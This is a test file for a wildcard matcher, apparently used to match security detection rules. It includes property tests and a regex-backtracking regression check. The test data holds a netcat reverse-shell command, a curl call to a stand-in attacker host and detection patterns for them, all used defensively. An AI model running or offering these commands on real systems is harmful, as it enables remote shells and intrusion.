import fc from 'fast-check';
import picomatch from 'picomatch';
import { describe, expect, it } from 'vitest';
import { compileWildcard, MATCH_CAP, matches, wildcardMatch } from '../../../src/intake/wildcard.js';

describe('wildcard matching', () => {
  it.each([
    // The cases picomatch got wrong (issue 10): `*` crosses `/` and spaces.
    ['*curl*', 'curl http://evil.example/x', true],
    ['*', '/bin/sh', true],
    ['*sh', '/bin/sh', true],
    ['/bin/*', '/bin/busybox/sh', true],
    ['*nc*-e*/bin/*sh*', 'nc 10.0.0.1 4444 -e /bin/sh', true],
    ['*nc*-e*/bin/*sh*', 'nc 10.0.0.1 4444 -e /usr/bin/python', false],
    ['*', '', true],
    ['**', '', true],
    ['a', '', false],
    ['?', '', false],
    ['', '', true],
    ['', 'a', false],
    ['*curl*', 'wget http://x', false],
    ['curl*', 'xcurl', false],
    ['*curl', 'curlx', false],
    ['a*a', 'a', false],
    ['a*a', 'aa', true],
    ['*a*a*', 'xax', false],
    ['*ab*ab*', 'abab', true],
    ['*ab*ab*', 'aba', false],
    ['*.env', 'a\n.env', true],
    ['?', 'a', true],
    ['??', 'a', false],
    ['sho?', 'shop', true],
    ['sho?', 'sho', false],
    // Rule names keep working.
    ['Terminal shell*', 'Terminal shell in container', true],
    ['Write below *', 'Write below etc', true],
    ['Write below *', 'Read sensitive file untrusted', false],
    // Unicode: `?` is one code point, literals compare exactly.
    ['?', '😀', true],
    ['??', '😀', false],
    ['a?b', 'a😀b', true],
    ['*😀*', 'x😀y', true],
    ['*é*', 'cafe\u0301', false],
    ['caf?', 'café', true],
    ['*ü?', 'grüß', true],
    // Escapes: a literal star or question mark.
    ['\\*', '*', true],
    ['\\*', 'a', false],
    ['a\\?', 'a?', true],
    ['a\\?', 'ab', false],
    ['\\\\*', '\\x', true],
    // Nothing else is special.
    ['{a,b}', 'a', false],
    ['{a,b}', '{a,b}', true],
    ['[ab]', 'a', false],
    ['!(x)', '!(x)', true],
  ])('%j against %j is %s', (pattern, value, expected) => {
    expect(matches(pattern, value)).toBe(expected);
  });

  it('shows what picomatch got wrong', () => {
    // Kept as a record of why it was replaced; picomatch is a path glob.
    expect(picomatch('*curl*', { dot: true })('curl http://evil.example/x')).toBe(false);
    expect(picomatch('*', { dot: true })('/bin/sh')).toBe(false);
  });

  describe(`values longer than the cap (${MATCH_CAP})`, () => {
    const pad = 'x'.repeat(MATCH_CAP);
    it.each([
      // A match hidden past the cap is still a match: the unread rest is assumed to complete it.
      ['*curl*', `${pad}curl`, true],
      ['*curl*', `${pad}wget`, true],
      ['x*', `${pad}y`, true],
      // The head before the first `*` is still checked against the start.
      ['curl*', `${pad}curl`, false],
      ['curl *', `curl ${pad}`, true],
      // No `*`: a pattern of at most 1024 characters cannot match a longer value.
      ['?', `${pad}a`, false],
    ])('%s', (pattern, value, expected) => {
      expect(matches(pattern, value)).toBe(expected);
    });

    it('reads the value exactly up to the cap', () => {
      const at = 'y'.repeat(MATCH_CAP - 4) + 'curl';
      expect(at.length).toBe(MATCH_CAP);
      expect(matches('*curl', at)).toBe(true);
      expect(matches('*wget', at)).toBe(false);
    });
  });

  it('keeps a 64 KiB value with a pathological pattern cheap (counted steps, not time)', () => {
    // The attack from issue 10: picomatch's regex backtracked for 42 s on 16 KiB. Counting calls
    // of startsWith bounds the work without timing anything.
    const value = 'nc -e /bin/'.repeat(6_000).slice(0, MATCH_CAP);
    let calls = 0;
    const original = String.prototype.startsWith;
    String.prototype.startsWith = function (this: string, ...args: Parameters<string['startsWith']>) {
      calls++;
      return original.apply(this, args);
    };
    try {
      expect(matches('*nc*-e*/bin/*sh*', value)).toBe(false);
      expect(matches('*n?*-?*/bin/*s?*', value)).toBe(false);
      expect(matches('*?sh*', value)).toBe(false);
      expect(matches('*?c?-?*?/bin/?sh*', value)).toBe(false);
    } finally {
      String.prototype.startsWith = original;
    }
    // Linear: a few checks per character of the value, not per pair of positions.
    expect(calls).toBeLessThan(4 * MATCH_CAP);
  });
});

/** The reference: the same language as an anchored regex with the `u` flag (fine on short inputs). */
function reference(pattern: string, value: string): boolean {
  let re = '';
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern[i]!;
    if (c === '\\' && i + 1 < pattern.length) re += escapeRe(pattern[++i]!);
    else if (c === '*') re += '[^]*';
    else if (c === '?') re += '.';
    else re += escapeRe(c);
  }
  return new RegExp(`^${re}$`, 'su').test(value);
}
const escapeRe = (c: string) => c.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&');

describe('property: agrees with a regex reference', () => {
  // A small alphabet makes matches and near misses frequent; 😀 tests code points.
  const valueChars = fc.constantFrom('a', 'b', '/', ' ', '\n', '😀', '*', '?', '\\');
  const patternChars = fc.constantFrom('a', 'b', '/', '*', '*', '?', '😀', '\\*', '\\?', '\\\\');
  const value = fc.array(valueChars, { maxLength: 24 }).map((a) => a.join(''));
  const pattern = fc.array(patternChars, { maxLength: 10 }).map((a) => a.join(''));

  it('on random patterns and values', () => {
    fc.assert(
      fc.property(pattern, value, (p, v) => wildcardMatch(compileWildcard(p), v) === reference(p, v)),
      { numRuns: 20_000 },
    );
  });

  it('on segments longer than one machine word (33 to 100 code points, several words of automaton)', () => {
    const longSegment = fc
      .array(fc.constantFrom('a', 'a', 'b', '?', '😀'), { minLength: 33, maxLength: 100 })
      .map((a) => a.join(''));
    const text = fc
      .array(fc.constantFrom('a', 'a', 'a', 'b', '😀'), { maxLength: 260 })
      .map((a) => a.join(''));
    fc.assert(
      fc.property(longSegment, text, fc.constantFrom('*%*', 'a*%*b', '*%*a*', '*%'), (seg, v, shape) => {
        const p = shape.replace('%', seg);
        return wildcardMatch(compileWildcard(p), v) === reference(p, v);
      }),
      { numRuns: 3_000 },
    );
    // And one that must match: the segment with its `?` filled in, inside a longer text.
    fc.assert(
      fc.property(longSegment, text, text, (seg, before, after) => {
        const v = before + seg.replaceAll('?', 'b') + after;
        return wildcardMatch(compileWildcard(`*${seg}*`), v);
      }),
      { numRuns: 2_000 },
    );
  });

  it('on values built to contain the pattern', () => {
    // Replace each wildcard by random text so that a match exists, then check both agree (true).
    const filled = fc.tuple(pattern, fc.array(value, { minLength: 12, maxLength: 12 })).map(([p, fills]) => {
      let v = '';
      let k = 0;
      for (let i = 0; i < p.length; i++) {
        const c = p[i]!;
        if (c === '\\' && i + 1 < p.length) v += p[++i];
        else if (c === '*') v += fills[k++ % fills.length];
        else if (c === '?') v += ['a', 'b', '😀'][k++ % 3];
        else v += c;
      }
      return [p, v] as const;
    });
    fc.assert(
      fc.property(filled, ([p, v]) => {
        expect(reference(p, v)).toBe(true);
        return wildcardMatch(compileWildcard(p), v);
      }),
      { numRuns: 5_000 },
    );
  });
});
